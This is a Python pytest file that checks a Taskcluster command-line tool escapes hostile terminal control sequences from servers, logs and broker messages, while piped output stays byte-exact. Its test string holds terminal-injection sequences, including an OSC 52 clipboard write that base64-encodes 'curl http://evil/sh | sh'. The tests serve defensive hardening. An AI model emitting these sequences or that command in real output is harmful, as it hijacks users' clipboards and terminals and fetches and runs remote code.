"""Issue 18 item 11: text a server, a deployment's references, a task's log or a broker's
message supplies never reaches a terminal raw (OSC 52 clipboard writes, line erasure, window
titles, C1 controls, U+202E), checked on a real pseudo-terminal; piped output stays faithful
(a log byte for byte, JSON decoding to the values sent)."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pexpect
import pytest
import slugid
from ptyrun import dangerous_in, run_on_pty
from test_cli_hardening import _Plain
from test_listen import AMQP_URL, _publish, broker  # noqa: F401 (a fixture)

from tcdyn import terminal
from tcdyn.cli import output
from tcdyn.testing.server import LocalDeployment, error

#: OSC 52 (clipboard := "curl http://evil/sh | sh"), erase line, OSC 0 (window title), RLO,
#: and the same as C1 controls (CSI, OSC, ST), NUL and DEL.
EVIL = ("\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo\x07\x1b[2K\x1b]0;pwned\x07 "
        "\u202eexe.txt \x9b31m \x9d0;t\x9c \x00\x7f")
SHOWN = "\\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo\\x07"  # what a person sees instead


def _env(tmp: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("TASKCLUSTER_")}
    env.update({"TCDYN_CONFIG": str(tmp / "none.toml"), "TCDYN_CACHE_DIR": str(tmp / "cache"),
                "TERM": "xterm", "COLUMNS": "80"})
    env.update(extra)
    return env


def test_the_rule_escapes_controls_and_keeps_text():
    assert terminal.escape("a\tb\nc é 日本 🙂") == "a\tb\nc é 日本 🙂"
    assert terminal.escape("\x1b[2K\x9b\u202e\x00\x7f\r\u2028\U000e0041") == (
        "\\x1b[2K\\x9b\\u202e\\x00\\x7f\\x0d\\u2028\\U000e0041")
    assert terminal.escape("\udc80") == "\\udc80"  # a lone surrogate (undecodable bytes)


@pytest.mark.parametrize("indent", [True, False])
def test_json_output_escapes_losslessly(indent):
    value = {"routingKey": f"primary.{EVIL}", EVIL: [EVIL, "\udc80", "\U000e0041", "日本"]}
    text = output.dumps(value, indent=indent)
    assert not any(terminal.is_unsafe(c) for c in text if c != "\n")
    assert json.loads(text) == value
    assert "日本" in text  # readable text stays as it is


@pytest.fixture
def hostile_refs(tmp_path: Path, deployment_dir: Path) -> Path:
    """The bundled references with a queue whose texts carry escape sequences."""
    refs = tmp_path / "hostile"
    shutil.copytree(deployment_dir, refs)
    path = refs / "references" / "queue" / "v1" / "api.json"
    api = json.loads(path.read_text())
    api["title"] = f"Queue {EVIL}"
    for entry in api["entries"]:
        if entry["name"] == "task":
            entry["title"] = f"Get Task {EVIL}"
            entry["description"] = f"Reads a task. {EVIL}"
    path.write_text(json.dumps(api))
    return refs


def test_server_error_messages_are_escaped_on_a_terminal(tmp_path, deployment_dir):
    with LocalDeployment(deployment_dir) as dep:
        dep.handle("queue", "task", lambda req: error(404, "ResourceNotFound",
                                                      f"no such task\n{EVIL}\nreally"))
        env = _env(tmp_path, TASKCLUSTER_ROOT_URL=dep.root_url)
        tty = run_on_pty("api", "--references", "bundled", "queue", "task", "abc", env=env)
        piped = subprocess.run([sys.executable, "-m", "tcdyn", "api", "--references",
                                "bundled", "queue", "task", "abc"], env=env,
                               capture_output=True, timeout=60)
    assert tty.returncode == 3 and piped.returncode == 3
    assert dangerous_in(tty.output) == [], tty.output
    assert SHOWN in tty.text and "\\u202eexe.txt" in tty.text and "\\x9b31m" in tty.text
    assert dangerous_in(piped.stderr) == [], piped.stderr  # an error is text for a person
    assert SHOWN in piped.stderr.decode()


def test_api_help_escapes_the_references_text(tmp_path, hostile_refs):
    env = _env(tmp_path)
    for args in (("api", "--help"), ("api", "queue", "--help"), ("api", "queue", "task", "-h")):
        run = run_on_pty(*args[:1], "--references", str(hostile_refs), *args[1:], env=env)
        assert run.returncode == 0, run.text
        assert dangerous_in(run.output) == [], (args, run.output)
        assert SHOWN in run.text, (args, run.text)


def test_repl_help_escapes_the_references_text(tmp_path, hostile_refs):
    env = {**_env(tmp_path), "TCDYN_SHELL": "python", "PAGER": "cat", "TERM": "dumb"}
    child = pexpect.spawn(sys.executable, ["-m", "tcdyn.repl", "--references",
                                           str(hostile_refs), "--root-url", "http://127.0.0.1:9"],
                          env=env, timeout=60, dimensions=(50, 200))
    child.logfile_read = seen = _Sink()
    child.expect_exact(b">>> ")
    for line in ("help(queue.task)", "help(tcdyn.Queue)", "print(queue.task.__doc__)"):
        child.sendline(line)
        child.expect_exact(b">>> ")
    child.sendline("exit()")
    child.expect(pexpect.EOF)
    child.close()
    data = bytes(seen.data)
    assert SHOWN.encode() in data and b"Reads a task." in data
    assert dangerous_in(data) == [], data


class _Sink:
    def __init__(self) -> None:
        self.data = bytearray()

    def write(self, chunk: bytes) -> None:
        self.data += chunk

    def flush(self) -> None:
        pass


@pytest.fixture
def log_server(deployment_dir: Path) -> Iterator[tuple[LocalDeployment, bytes]]:
    body = (f"step 1 ok\n{EVIL}\n".encode() + b"bad utf-8 \xff\xfe and a split "
            + "\u202e".encode()[:1] + b"\nlast line \xe6\x97\xa5\xe6\x9c\xac\n")
    storage = _Plain(200, body, "text/plain")
    storage.url += "/live.log"
    try:
        with LocalDeployment(deployment_dir) as dep:
            dep.handle("queue", "latestArtifact", lambda req: {"storageType": "s3",
                                                                "url": storage.url})
            yield dep, body
    finally:
        storage.close()


def test_task_log_is_escaped_on_a_terminal(tmp_path, log_server):
    dep, _ = log_server
    run = run_on_pty("task", "log", "abc", "--references", "bundled",
                     env=_env(tmp_path, TASKCLUSTER_ROOT_URL=dep.root_url))
    assert run.returncode == 0, run.text
    assert dangerous_in(run.output) == [], run.output
    text = run.text
    assert "step 1 ok" in text and SHOWN in text and "\\u202eexe.txt" in text
    assert "bad utf-8 \\xff\\xfe" in text and "last line 日本" in text


def test_task_log_is_faithful_when_piped(tmp_path, log_server):
    dep, body = log_server
    run = subprocess.run([sys.executable, "-m", "tcdyn", "task", "log", "abc", "--references",
                          "bundled"], env=_env(tmp_path, TASKCLUSTER_ROOT_URL=dep.root_url),
                         capture_output=True, timeout=60)
    assert run.returncode == 0, run.stderr
    assert run.stdout == body


def test_artifact_get_of_text_is_escaped_on_a_terminal(tmp_path, deployment_dir):
    body = f"step 1 ok\n{EVIL.replace(chr(0), '')}\nlast line \u65e5\u672c\n".encode()
    storage = _Plain(200, body, "text/plain")
    storage.url += "/notes.txt"
    try:
        with LocalDeployment(deployment_dir) as dep:
            dep.handle("queue", "latestArtifact", lambda req: {"storageType": "s3",
                                                                "url": storage.url})
            run = run_on_pty("artifact", "get", "abc", "public/notes.txt", "--references",
                             "bundled", env=_env(tmp_path, TASKCLUSTER_ROOT_URL=dep.root_url))
    finally:
        storage.close()
    assert run.returncode == 0, run.text
    assert dangerous_in(run.output) == [], run.output
    assert "step 1 ok" in run.text and SHOWN in run.text and "last line \u65e5\u672c" in run.text


# -- listen ------------------------------------------------------------------------------

@pytest.mark.usefixtures("broker")
@pytest.mark.parametrize("on_tty", [True, False])
def test_listen_escapes_routing_keys_and_payloads(tmp_path, on_tty):
    group = slugid.nice()
    hostile = "wg\u202e\x9b31m"  # a word of the routing key: RLO and a C1 CSI
    key = ".".join(["primary", slugid.nice(), "0", hostile, "w1", "prov", "wt", "sched",
                    group, "_"])
    payload = {"status": {"note": EVIL, "bad": "\x85\u2028"}}
    env = _env(tmp_path, TCDYN_PULSE_URL=AMQP_URL)
    args = ("listen", "queue", "taskCompleted", f"--taskGroupId={group}", "--count", "1")

    def publish() -> None:
        asyncio.run(_publish(key, payload))

    if on_tty:
        run = run_on_pty(*args, env=env, when=(b"listening on", publish))
        assert run.returncode == 0, run.text
        data = run.output
        line = next(x for x in run.text.splitlines() if x.startswith("{"))
    else:
        proc = subprocess.Popen([sys.executable, "-m", "tcdyn", *args], env=env,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        try:
            banner = proc.stderr.readline()
            assert b"listening on" in banner, banner
            publish()
            out, err = proc.communicate(timeout=60)
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
        assert proc.returncode == 0, err
        data, line = out + err, out.decode()
    assert dangerous_in(data) == [] and b"\xc2\x85" not in data, data
    message = json.loads(line)
    assert message["routingKey"] == key and message["payload"] == payload


def test_log_lines_are_escaped(tmp_path):
    probe = ("import logging; from tcdyn.cli import _logging; _logging(True); "
             f"logging.getLogger('tcdyn.references').warning('server said %s', {EVIL!r})")
    run = subprocess.run([sys.executable, "-c", probe], capture_output=True, timeout=60)
    assert b"server said" in run.stderr and SHOWN.encode() in run.stderr
    assert dangerous_in(run.stderr) == [], run.stderr
